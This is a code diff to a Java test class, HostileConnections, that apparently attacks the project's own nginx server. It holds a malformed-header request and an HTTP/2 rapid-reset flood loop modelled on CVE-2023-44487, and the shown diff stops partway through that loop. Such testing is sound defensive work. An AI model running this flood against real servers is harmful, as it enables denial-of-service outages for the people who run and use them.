@@ -48,17 +48,19 @@ final class HostileConnections {
                             "GET / HTTP/1.1\r\nHost: localhost\r\nX\u001b[31m "
                                 + "a".repeat(2_000)
                                 + "\r\n\r\n"))),
-        new Attack("HTTP/2: streams that are reset at once", HostileConnections::rapidReset));
+        new Attack(
+            "HTTP/2 at the supplied nginx: streams that are reset at once",
+            HostileConnections::rapidReset));
   }
 
-  /** As in CVE-2023-44487. A server that does not know HTTP/2 hangs up. */
+  /** As in CVE-2023-44487. */
   private static void rapidReset(Assailant assailant) throws InterruptedException {
     byte[] path = ascii("/api/activities?last=1000");
     assailant.inParallel(
         10,
         number -> {
           while (!assailant.isOver()) {
-            try (Socket socket = assailant.connect(number)) {
+            try (Socket socket = assailant.connectByHttp2(number)) {
               socket.getOutputStream().write(ascii(PREFACE));
               socket.getOutputStream().write(SETTINGS);
               for (int stream = 1; stream < 4_000; stream += 2) {
